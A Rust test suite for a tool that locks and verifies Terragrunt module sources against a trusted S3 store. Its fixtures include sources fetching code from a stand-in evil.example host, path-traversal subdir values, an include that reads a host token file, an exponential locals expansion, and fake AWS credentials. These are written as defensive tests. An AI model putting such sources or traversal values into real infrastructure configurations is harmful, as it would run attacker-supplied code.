//! The gate reads what Terraform and Terragrunt will read: sources from included files, the key
//! go-getter fetches, every source that is not from the trusted store, go-getter's own
//! `?checksum=` and `?version=`; and it never echoes a secret.

use crate::harness::{self, bucket, publish, replace, tfmod, unit, write};

/// Terragrunt's shared layout: the unit includes `_envcommon/vpc.hcl`, which holds the source;
/// another reads it with `read_terragrunt_config`. Both are locked, and a replaced object fails.
#[tokio::test]
async fn a_source_from_an_included_file_is_locked_and_checked() {
    let b = bucket(false).await;
    let repo = tempfile::tempdir().unwrap();
    let vpc = publish(repo.path(), &b, "vpc", "1.0.0", "vpc");
    let app = publish(repo.path(), &b, "app", "2.0.0", "app");
    let live = repo.path().join("live");
    write(&live.join("root.hcl"), "# remote_state …\n");
    write(
        &live.join("_envcommon/vpc.hcl"),
        &format!("terraform {{\n  source = \"{vpc}\"\n}}\n"),
    );
    write(
        &live.join("_envcommon/app.hcl"),
        &format!("locals {{\n  source = \"{app}\"\n}}\n"),
    );
    let stage = live.join("acme/us-east-1/staging");
    write(
        &stage.join("vpc/terragrunt.hcl"),
        "include \"root\" {\n  path = find_in_parent_folders(\"root.hcl\")\n}\n\ninclude \"envcommon\" {\n  path   = \"${dirname(find_in_parent_folders(\"root.hcl\"))}/_envcommon/vpc.hcl\"\n  expose = true\n}\n\ninputs = {}\n",
    );
    write(
        &stage.join("app/terragrunt.hcl"),
        "locals {\n  common = read_terragrunt_config(find_in_parent_folders(\"_envcommon/app.hcl\"))\n}\n\nterraform {\n  source = local.common.locals.source\n}\n",
    );
    let l = tfmod(&stage, &["lock"]);
    assert_eq!(l.code, 0, "{}", l.stdout);
    assert!(l.stderr.contains("locked 2 source(s)"), "{}", l.stderr);
    assert_eq!(tfmod(&stage, &["verify", "--bucket", &b]).code, 0);

    replace(&b, "vpc/1.0.0.zip", b"PK not the module").await;
    let v = tfmod(&stage, &["verify", "--bucket", &b]);
    assert_eq!(v.code, 1, "{}", v.stdout);
    assert!(
        v.stdout.contains("vpc/1.0.0.zip") && v.stdout.contains("differs"),
        "{}",
        v.stdout
    );

    // An include tfmod cannot follow is a problem, not a pass.
    write(
        &stage.join("dns/terragrunt.hcl"),
        "include \"x\" {\n  path = local.somewhere\n}\n",
    );
    let v = tfmod(&stage, &["verify"]);
    assert_eq!(v.code, 1);
    assert!(
        v.stdout.contains("dns/terragrunt.hcl") && v.stdout.contains("include"),
        "{}",
        v.stdout
    );
}

/// go-getter percent-decodes the path: `tf%2Fvpc%2F1.0.0.zip` is the object `tf/vpc/1.0.0.zip`.
#[tokio::test]
async fn verify_checks_the_object_go_getter_downloads() {
    let b = bucket(false).await;
    let repo = tempfile::tempdir().unwrap();
    harness::module(&repo.path().join("m"), "vpc");
    let r = tfmod(
        repo.path(),
        &[
            "publish",
            "m",
            "--name",
            "vpc",
            "--version",
            "1.0.0",
            "--bucket",
            &b,
            "--prefix",
            "tf",
        ],
    );
    assert_eq!(r.code, 0);
    let encoded = r
        .stdout
        .trim()
        .replace("tf/vpc/1.0.0.zip", "tf%2Fvpc%2F1.0.0.zip");
    let stage = repo.path().join("live/acme/us-east-1/dev");
    write(&stage.join("vpc/terragrunt.hcl"), &unit(&encoded));
    let l = tfmod(&stage, &["lock"]);
    assert_eq!(l.code, 0, "{}", l.stdout);
    assert!(
        std::fs::read_to_string(stage.join("tfmod.lock"))
            .unwrap()
            .contains("/tf/vpc/1.0.0.zip"),
        "the lock names the object go-getter fetches"
    );
    replace(&b, "tf/vpc/1.0.0.zip", b"PK other bytes").await;
    let v = tfmod(&stage, &["verify"]);
    assert_eq!(v.code, 1, "{}", v.stdout);
}

/// With --bucket, every module source that is not from that store is a problem, named.
#[tokio::test]
async fn verify_with_bucket_names_every_source_from_elsewhere() {
    let b = bucket(false).await;
    let repo = tempfile::tempdir().unwrap();
    let vpc = publish(repo.path(), &b, "vpc", "1.0.0", "vpc");
    let stage = repo.path().join("live/acme/us-east-1/prod");
    write(&stage.join("vpc/terragrunt.hcl"), &unit(&vpc));
    for (name, source) in [
        ("git", "git::https://example.com/acme/net.git?ref=main"),
        (
            "vhost",
            "https://other-bucket.s3.eu-west-1.amazonaws.com/vpc/1.0.0.zip",
        ),
        ("local", "../../../../../modules/vpc-1.0.0"),
        (
            "registry",
            "tfr:///terraform-aws-modules/vpc/aws?version=5.0.0",
        ),
    ] {
        write(&stage.join(name).join("terragrunt.hcl"), &unit(source));
    }
    // lock refuses them as well (and so writes nothing).
    assert_eq!(tfmod(&stage, &["lock", "--bucket", &b]).code, 1);
    assert!(!stage.join("tfmod.lock").exists());
    let v = tfmod(&stage, &["verify", "--bucket", &b]);
    assert_eq!(v.code, 1, "{}", v.stdout);
    for name in ["git", "vhost", "local", "registry"] {
        assert!(
            v.stdout
                .lines()
                .any(|l| l.contains(&format!("{name}/terragrunt.hcl")) && l.contains("not from")),
            "{name} in {}",
            v.stdout
        );
    }
}

/// Sources carry go-getter's `?checksum=sha256:` (and `?version=` on a versioned bucket), so
/// `terraform init` checks the bytes itself; verify checks the parameter against lock and S3.
#[tokio::test]
async fn sources_carry_the_checksum_terraform_checks_and_verify_holds_it_to_the_lock() {
    for versioned in [false, true] {
        let b = bucket(versioned).await;
        let repo = tempfile::tempdir().unwrap();
        let vpc = publish(repo.path(), &b, "vpc", "1.0.0", "vpc");
        let stored = harness::object(&b, "vpc/1.0.0.zip").await.unwrap();
        let sha = tfmod::archive::sha256_hex(&stored);
        assert!(vpc.contains(&format!("checksum=sha256:{sha}")), "{vpc}");
        let head = harness::s3()
            .head_object()
            .bucket(&b)
            .key("vpc/1.0.0.zip")
            .send()
            .await
            .unwrap();
        match head.version_id().filter(|v| *v != "null") {
            Some(v) if versioned => assert!(vpc.contains(&format!("version={v}")), "{vpc}"),
            _ => assert!(!vpc.contains("version="), "{vpc}"),
        }
        let stage = repo.path().join("live/acme/us-east-1/dev");
        write(&stage.join("vpc/terragrunt.hcl"), &unit(&vpc));
        assert_eq!(tfmod(&stage, &["lock"]).code, 0);
        assert_eq!(tfmod(&stage, &["verify", "--bucket", &b]).code, 0);

        // A checksum parameter other than the lock's is a problem (Terraform would refuse it).
        let wrong = vpc.replace(&sha, &"0".repeat(64));
        write(&stage.join("vpc/terragrunt.hcl"), &unit(&wrong));
        let v = tfmod(&stage, &["verify", "--bucket", &b]);
        assert_eq!(v.code, 1, "{}", v.stdout);
        assert!(v.stdout.contains("checksum"), "{}", v.stdout);

        // No checksum parameter: init would not check the bytes.
        let bare = vpc
            .split("checksum=")
            .next()
            .unwrap()
            .trim_end_matches(['&', '?']);
        write(&stage.join("vpc/terragrunt.hcl"), &unit(bare));
        let v = tfmod(&stage, &["verify", "--bucket", &b]);
        assert_eq!(v.code, 1, "{}", v.stdout);
        assert!(v.stdout.contains("?checksum="), "{}", v.stdout);
    }
}

/// A secret in a source (userinfo, go-getter's credential parameters) is never printed.
#[tokio::test]
async fn secrets_in_sources_are_never_echoed() {
    let b = bucket(false).await;
    let repo = tempfile::tempdir().unwrap();
    let vpc = publish(repo.path(), &b, "vpc", "1.0.0", "vpc");
    let stage = repo.path().join("live/acme/us-east-1/dev");
    let with_query =
        format!("{vpc}&aws_access_key_id=AKIASECRETKEYID&aws_access_key_secret=SuperSecret1");
    let endpoint = harness::moto().endpoint.clone();
    let with_userinfo = vpc.replacen(
        &endpoint,
        &endpoint.replace("http://", "http://AKIASECRETKEYID:SuperSecret2@"),
        1,
    );
    for (name, source) in [
        ("query", with_query.as_str()),
        ("userinfo", with_userinfo.as_str()),
        (
            "vhost",
            "s3::https://AKIASECRETKEYID:SuperSecret3@b.s3.eu-west-1.amazonaws.com/vpc/1.0.0.zip",
        ),
        (
            "git",
            "git::https://deploy:SuperSecret4@example.com/net.git?ref=main",
        ),
        (
            "schemeless",
            "AKIASECRETKEYID:SuperSecret5@acme.s3-eu-west-1.amazonaws.com/tf/vpc/1.0.0.zip",
        ),
        (
            "barekey",
            "s3::https://acme.s3.eu-west-1.amazonaws.com/tf/vpc/1.0.0.zip?ghp_SuperSecret6",
        ),
        (
            "gitbare",
            "git::https://github.com/acme/x.git?ref=main&ghp_SuperSecret7",
        ),
    ] {
        write(&stage.join(name).join("terragrunt.hcl"), &unit(source));
    }
    for args in [vec!["lock"], vec!["verify", "--bucket", &b]] {
        let r = tfmod(&stage, &args);
        assert_eq!(r.code, 1, "{args:?}");
        let all = format!("{}{}", r.stdout, r.stderr);
        assert!(all.matches("terragrunt.hcl").count() >= 5, "{all}");
        assert!(
            !all.contains("SuperSecret") && !all.contains("AKIASECRETKEYID"),
            "{args:?} echoed a secret: {all}"
        );
    }
}

/// A `//subdir` is joined to the download directory by Terragrunt and go-getter: `..` (raw or
/// percent-encoded) or a leading `/` leaves the archive, so Terraform would run code beside the
/// unit. verify, lock and pin refuse it; a subdir must be a directory of the published files.
#[tokio::test]
async fn a_subdir_must_be_a_directory_of_the_published_archive() {
    let b = bucket(false).await;
    let repo = tempfile::tempdir().unwrap();
    let vpc = publish(repo.path(), &b, "vpc", "1.0.0", "vpc");
    let stage = repo.path().join("live/acme/us-east-1/prod");
    write(&repo.path().join("live/root.hcl"), "# remote_state …\n");
    write(&stage.join("vpc/terragrunt.hcl"), &unit(&vpc));
    write(
        &stage.join("payload/main.tf"),
        "resource \"null_resource\" \"pwn\" {}\n",
    );
    assert_eq!(tfmod(&stage, &["lock"]).code, 0);
    let (head, query) = vpc.split_once('?').unwrap();
    // A subdir the archive has passes.
    write(
        &stage.join("vpc/terragrunt.hcl"),
        &unit(&format!("{head}//modules/subnets?{query}")),
    );
    let v = tfmod(&stage, &["verify", "--bucket", &b]);
    assert_eq!(v.code, 0, "{}", v.stdout);
    for sub in [
        "../../../../payload",
        "%2E%2E/%2e%2e/payload",
        "modules/../../payload",
        "/etc",
        r"\\..\\payload",
        "payload",
    ] {
        write(
            &stage.join("vpc/terragrunt.hcl"),
            &unit(&format!("{head}//{sub}?{query}")),
        );
        let v = tfmod(&stage, &["verify", "--bucket", &b]);
        assert_eq!(v.code, 1, "{sub}: {}", v.stdout);
        assert!(
            v.stdout.contains("vpc/terragrunt.hcl") && v.stdout.contains("subdir"),
            "{sub}: {}",
            v.stdout
        );
        let p = tfmod(
            repo.path(),
            &[
                "pin",
                "vpc",
                "1.0.0",
                "--dir",
                "live/acme/us-east-1/prod",
                "--bucket",
                &b,
            ],
        );
        assert_ne!(p.code, 0, "{sub}: pin carried it: {}", p.stderr);
    }
}

/// Terragrunt evaluates a file read with `read_terragrunt_config` as itself (its own
/// get_terragrunt_dir, find_in_parent_folders and relative paths: config_helpers.go
/// ParseTerragruntConfig → WithConfigPath), and an included file in the including unit's
/// context (include.go: relative paths and get_terragrunt_dir are the unit's). Each case puts
/// the benign source where the wrong context looks and an evil one where Terragrunt looks.
#[tokio::test]
async fn read_and_included_files_are_evaluated_in_terragrunts_context() {
    let b = bucket(false).await;
    let stage = "live/acct/reg/prod";
    let read_common = "locals {\n  c = read_terragrunt_config(\"../../../../_shared/common.hcl\")\n}\nterraform {\n  source = local.c.locals.src\n}\n";
    type Case<'a> = (&'a str, Vec<(String, &'a str)>, bool);
    let cases: Vec<Case> = vec![
        (
            // a2: get_terragrunt_dir() in a read file is the read file's directory.
            "read file's get_terragrunt_dir",
            vec![
                ("live/_shared/common.hcl".into(), "locals {\n  s   = read_terragrunt_config(\"${get_terragrunt_dir()}/source.hcl\")\n  src = local.s.locals.src\n}\n"),
                ("live/_shared/source.hcl".into(), "locals {\n  src = \"EVIL\"\n}\n"),
                (format!("{stage}/vpc/source.hcl"), "locals {\n  src = \"GOOD\"\n}\n"),
                (format!("{stage}/vpc/terragrunt.hcl"), read_common),
            ],
            true,
        ),
        (
            // a3: a relative path in an included file is relative to the unit.
            "included file's relative path",
            vec![
                ("live/root.hcl".into(), "locals {\n  s = read_terragrunt_config(\"src.hcl\")\n}\nterraform {\n  source = local.s.locals.src\n}\n"),
                ("live/src.hcl".into(), "locals {\n  src = \"GOOD\"\n}\n"),
                (format!("{stage}/vpc/src.hcl"), "locals {\n  src = \"EVIL\"\n}\n"),
                (format!("{stage}/vpc/terragrunt.hcl"), "include \"root\" {\n  path = find_in_parent_folders(\"root.hcl\")\n}\n"),
            ],
            true,
        ),
        (
            // a4: find_in_parent_folders in a read file starts from the read file.
            "read file's find_in_parent_folders",
            vec![
                ("live/_shared/common.hcl".into(), "locals {\n  s   = read_terragrunt_config(find_in_parent_folders(\"pin.hcl\"))\n  src = local.s.locals.src\n}\n"),
                ("live/pin.hcl".into(), "locals {\n  src = \"EVIL\"\n}\n"),
                (format!("{stage}/pin.hcl"), "locals {\n  src = \"GOOD\"\n}\n"),
                (format!("{stage}/vpc/terragrunt.hcl"), read_common),
            ],
            true,
        ),
        (
            // get_original_terragrunt_dir() in a read file is the unit's directory.
            "read file's get_original_terragrunt_dir",
            vec![
                ("live/_shared/common.hcl".into(), "locals {\n  s   = read_terragrunt_config(\"${get_original_terragrunt_dir()}/source.hcl\")\n  src = local.s.locals.src\n}\n"),
                ("live/_shared/source.hcl".into(), "locals {\n  src = \"EVIL\"\n}\n"),
                (format!("{stage}/vpc/source.hcl"), "locals {\n  src = \"GOOD\"\n}\n"),
                (format!("{stage}/vpc/terragrunt.hcl"), read_common),
            ],
            false,
        ),
        (
            // get_terragrunt_dir() in an included file is the unit's directory.
            "included file's get_terragrunt_dir",
            vec![
                ("live/root.hcl".into(), "locals {\n  s = read_terragrunt_config(\"${get_terragrunt_dir()}/src.hcl\")\n}\nterraform {\n  source = local.s.locals.src\n}\n"),
                ("live/src.hcl".into(), "locals {\n  src = \"EVIL\"\n}\n"),
                (format!("{stage}/vpc/src.hcl"), "locals {\n  src = \"GOOD\"\n}\n"),
                (format!("{stage}/vpc/terragrunt.hcl"), "include \"root\" {\n  path = find_in_parent_folders(\"root.hcl\")\n}\n"),
            ],
            false,
        ),
    ];
    for (case, files, evil) in cases {
        let repo = tempfile::tempdir().unwrap();
        let vpc = publish(repo.path(), &b, "vpc", "1.0.0", "vpc");
        for (path, text) in &files {
            let text = text
                .replace("GOOD", &vpc)
                .replace("EVIL", "git::https://evil.example/a.git");
            write(&repo.path().join(path), &text);
        }
        let stage = repo.path().join(stage);
        tfmod(&stage, &["lock"]);
        let v = tfmod(&stage, &["verify", "--bucket", &b]);
        if evil {
            assert_eq!(v.code, 1, "{case}: {}", v.stdout);
            assert!(
                v.stdout.contains("evil.example") && v.stdout.contains("not from"),
                "{case}: {}",
                v.stdout
            );
        } else {
            assert_eq!(v.code, 0, "{case}: {}", v.stdout);
        }
    }
}

/// Locals that multiply each other (the review's a6: 40 references a level, 5 levels, 102 MB)
/// end in one short problem line naming the unit, not minutes and a path of megabytes.
#[tokio::test]
async fn locals_that_multiply_end_in_one_short_problem() {
    let repo = tempfile::tempdir().unwrap();
    let stage = repo.path().join("live/acme/us-east-1/prod");
    let mut locals = String::from("locals {\n");
    for i in 0..5 {
        let r = format!("${{local.l{}}}", i + 1);
        locals.push_str(&format!("  l{i} = \"{}\"\n", r.repeat(40)));
    }
    locals.push_str("  l5 = \"x\"\n}\ninclude \"root\" {\n  path = local.l0\n}\n");
    write(&stage.join("dos/terragrunt.hcl"), &locals);
    let v = tfmod(&stage, &["verify"]);
    assert_eq!(v.code, 1);
    assert_eq!(v.stdout.lines().count(), 1, "{}", v.stdout.len());
    assert!(
        v.stdout.len() < 1000 && v.stdout.contains("dos/terragrunt.hcl"),
        "{} bytes",
        v.stdout.len()
    );
}

/// A file tfmod cannot parse is named with its line and column, never with its text (a
/// password on that line, or the first line of a host file an include names); and an include
/// or read path outside the repository is refused.
#[tokio::test]
async fn hcl_errors_show_no_source_and_paths_stay_in_the_repository() {
    let repo = tempfile::tempdir().unwrap();
    let host = tempfile::tempdir().unwrap();
    let token = host.path().join("token");
    std::fs::write(&token, "eyJhbGciOi.SIGNATURESECRET\n").unwrap();
    assert!(std::process::Command::new("git")
        .args(["init", "-q"])
        .current_dir(repo.path())
        .status()
        .unwrap()
        .success());
    let stage = repo.path().join("live/acme/us-east-1/prod");
    write(
        &stage.join("s4/terragrunt.hcl"),
        "inputs = {\n  db_password = \"Hunter2SuperSecret\" +\n}\n",
    );
    write(
        &stage.join("x/terragrunt.hcl"),
        &format!("include \"t\" {{\n  path = \"{}\"\n}}\n", token.display()),
    );
    let v = tfmod(&stage, &["verify"]);
    assert_eq!(v.code, 1);
    assert!(
        !v.stdout.contains("Hunter2SuperSecret") && !v.stdout.contains("SIGNATURESECRET"),
        "{}",
        v.stdout
    );
    assert!(
        v.stdout.contains("s4/terragrunt.hcl") && v.stdout.contains("line 2"),
        "{}",
        v.stdout
    );
    assert!(
        v.stdout
            .lines()
            .any(|l| l.contains("x/terragrunt.hcl") && l.contains("outside the repository")),
        "{}",
        v.stdout
    );
}

/// Terragrunt reads terragrunt.hcl.json before terragrunt.hcl (pkg/config/config.go
/// DefaultTerragruntConfigPaths): tfmod scans it, its source is checked like any other, and one
/// it cannot parse is a problem.
#[tokio::test]
async fn terragrunt_hcl_json_is_read_as_terragrunt_reads_it() {
    let b = bucket(false).await;
    let repo = tempfile::tempdir().unwrap();
    let vpc = publish(repo.path(), &b, "vpc", "1.0.0", "vpc");
    let stage = repo.path().join("live/acme/us-east-1/prod");
    write(&repo.path().join("live/root.hcl"), "# remote_state …\n");
    let json = |source: &str| {
        format!(
            "{{\"include\": {{\"root\": {{\"path\": \"../../../../root.hcl\"}}}}, \"terraform\": {{\"source\": {}}}}}",
            serde_json::to_string(source).unwrap()
        )
    };
    // A JSON unit with the published source locks and verifies.
    write(&stage.join("app/terragrunt.hcl.json"), &json(&vpc));
    write(&stage.join("vpc/terragrunt.hcl"), &unit(&vpc));
    let l = tfmod(&stage, &["lock"]);
    assert_eq!(l.code, 0, "{}", l.stdout);
    let v = tfmod(&stage, &["verify", "--bucket", &b]);
    assert_eq!(v.code, 0, "{}", v.stdout);
    assert!(v.stdout.contains("2 unit(s)"), "{}", v.stdout);

    // Beside a checked terragrunt.hcl, the JSON file is the one Terragrunt runs.
    write(
        &stage.join("vpc/terragrunt.hcl.json"),
        &json("git::https://evil.example/x.git?ref=main"),
    );
    // And one tfmod cannot parse is a problem, not a pass.
    write(&stage.join("dns/terragrunt.hcl.json"), "{\"terraform\": ");
    let v = tfmod(&stage, &["verify", "--bucket", &b]);
    assert_eq!(v.code, 1, "{}", v.stdout);
    assert!(
        v.stdout
            .lines()
            .any(|l| l.contains("vpc/terragrunt.hcl.json")
                && l.contains("evil.example")
                && l.contains("not from")),
        "{}",
        v.stdout
    );
    assert!(
        v.stdout
            .lines()
            .any(|l| l.contains("dns/terragrunt.hcl.json") && l.contains("parse")),
        "{}",
        v.stdout
    );
}

fn git(dir: &std::path::Path, args: &[&str]) {
    let ok = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .status()
        .unwrap()
        .success();
    assert!(ok, "git {args:?}");
}

/// Terragrunt's discovery skips only .git, .terraform and .terragrunt-cache: a unit in another
/// hidden directory is checked. A committed Terragrunt cache (with its
/// .terragrunt-source-version, Terragrunt runs it instead of downloading), a committed
/// .terraform, or a terragrunt.stack.hcl (units generated from elsewhere) is a problem; the
/// cache a Terragrunt run leaves (untracked) is not.
#[tokio::test]
async fn hidden_units_and_committed_caches_are_problems() {
    let b = bucket(false).await;
    let repo = tempfile::tempdir().unwrap();
    let vpc = publish(repo.path(), &b, "vpc", "1.0.0", "vpc");
    git(repo.path(), &["init", "-q"]);
    let stage = repo.path().join("live/acme/us-east-1/prod");
    write(&repo.path().join("live/root.hcl"), "# remote_state …\n");
    write(&stage.join("vpc/terragrunt.hcl"), &unit(&vpc));
    assert_eq!(tfmod(&stage, &["lock"]).code, 0);
    // Left by a Terragrunt run, not committed: fine.
    write(
        &repo.path().join(".gitignore"),
        ".terragrunt-cache/\n.terraform/\n",
    );
    write(&stage.join("vpc/.terragrunt-cache/a/b/main.tf"), "# run\n");
    write(
        &stage.join("vpc/.terragrunt-cache/a/b/.terragrunt-source-version"),
        "x",
    );
    git(repo.path(), &["add", "live"]);
    let v = tfmod(&stage, &["verify", "--bucket", &b]);
    assert_eq!(v.code, 0, "{}", v.stdout);

    write(
        &stage.join(".shadow/terragrunt.hcl"),
        &unit("git::https://evil.example/y.git"),
    );
    write(
        &stage.join("app/.terragrunt-cache/h/i/main.tf"),
        "module \"m\" {}\n",
    );
    write(
        &stage.join("app/.terragrunt-cache/h/i/.terragrunt-source-version"),
        "x",
    );
    write(&stage.join("app/terragrunt.hcl"), &unit(&vpc));
    write(&stage.join("db/.terraform/modules/modules.json"), "{}");
    write(&stage.join("db/terragrunt.hcl"), &unit(&vpc));
    write(&stage.join("stack/terragrunt.stack.hcl"), "unit \"x\" {}\n");
    let rel = "live/acme/us-east-1/prod";
    git(repo.path(), &["add", "live"]);
    git(
        repo.path(),
        &["add", "-f", &format!("{rel}/app"), &format!("{rel}/db")],
    );
    let v = tfmod(&stage, &["verify", "--bucket", &b]);
    assert_eq!(v.code, 1, "{}", v.stdout);
    for what in [
        ".shadow/terragrunt.hcl",
        "app/.terragrunt-cache",
        "db/.terraform",
        "stack/terragrunt.stack.hcl",
    ] {
        assert!(v.stdout.contains(what), "{what}: {}", v.stdout);
    }
    assert!(!v.stdout.contains("vpc/.terragrunt-cache"), "{}", v.stdout);
}

/// Code in a unit's directory runs too: Terragrunt copies the unit's files over the downloaded
/// module (override files replace its blocks), a unit without a source runs its own .tf files,
/// and a generate block writes a .tf file. With --bucket each is a problem, unless
/// --allow-local-code names the unit directory or the file holding the generate block.
#[tokio::test]
async fn code_in_unit_directories_is_a_problem_unless_allowed() {
    let b = bucket(false).await;
    let repo = tempfile::tempdir().unwrap();
    let vpc = publish(repo.path(), &b, "vpc", "1.0.0", "vpc");
    let stage = repo.path().join("live/acme/us-east-1/prod");
    write(
        &repo.path().join("live/root.hcl"),
        "generate \"provider\" {\n  path      = \"provider.tf\"\n  if_exists = \"overwrite\"\n  contents  = \"provider \\\"aws\\\" {}\\n\"\n}\n",
    );
    write(&stage.join("vpc/terragrunt.hcl"), &unit(&vpc));
    write(
        &stage.join("vpc/extra.tf"),
        "module \"x\" {\n  source = \"git::https://evil.example/z.git\"\n}\n",
    );
    write(
        &stage.join("vpc/modules/subnets/main_override.tf"),
        "module \"s\" {\n  source = \"git::https://evil.example/o.git\"\n}\n",
    );
    write(
        &stage.join("app/terragrunt.hcl"),
        &format!(
            "{}generate \"evil\" {{\n  path     = \"evil_override.tf\"\n  contents = \"module \\\"m\\\" {{}}\\n\"\n}}\n",
            unit(&vpc)
        ),
    );
    write(&stage.join("local/terragrunt.hcl"), "inputs = {}\n");
    write(
        &stage.join("local/main.tf"),
        "module \"m\" {\n  source = \"git::https://evil.example/l.git\"\n}\n",
    );
    assert_eq!(tfmod(&stage, &["lock"]).code, 0);
    let v = tfmod(&stage, &["verify", "--bucket", &b]);
    assert_eq!(v.code, 1, "{}", v.stdout);
    let has = |out: &str, a: &str, b: &str| out.lines().any(|l| l.contains(a) && l.contains(b));
    for (a, b) in [
        ("vpc/extra.tf", "unit"),
        ("vpc/modules/subnets/main_override.tf", "unit"),
        ("app/terragrunt.hcl", "generate \"evil\""),
        ("root.hcl", "generate \"provider\""),
        ("local/terragrunt.hcl", "no terraform.source"),
    ] {
        assert!(has(&v.stdout, a, b), "{a} {b}: {}", v.stdout);
    }
    // Allowed by the hook's configuration (not by the pull request): the provider generated for
    // every unit, and the unit kept local on purpose.
    let root_hcl = repo.path().join("live/root.hcl");
    let local = stage.join("local");
    let allow = format!("{},{}", root_hcl.display(), local.display());
    let v = harness::tfmod_env(
        &stage,
        &harness::moto().endpoint,
        &[("TFMOD_ALLOW_LOCAL_CODE", &allow)],
        &["verify", "--bucket", &b],
    );
    assert_eq!(v.code, 1, "{}", v.stdout);
    assert!(
        !v.stdout.contains("root.hcl") && !v.stdout.contains("local/"),
        "{}",
        v.stdout
    );
    assert!(has(&v.stdout, "vpc/extra.tf", "unit"), "{}", v.stdout);
    assert_eq!(v.stdout.lines().count(), 3, "{}", v.stdout);
    // A path that does not exist is bad usage, named.
    let r = tfmod(
        &stage,
        &["verify", "--bucket", &b, "--allow-local-code", "nope"],
    );
    assert_eq!(r.code, 2, "{}", r.stderr);
    assert!(r.stderr.contains("--allow-local-code"), "{}", r.stderr);
}
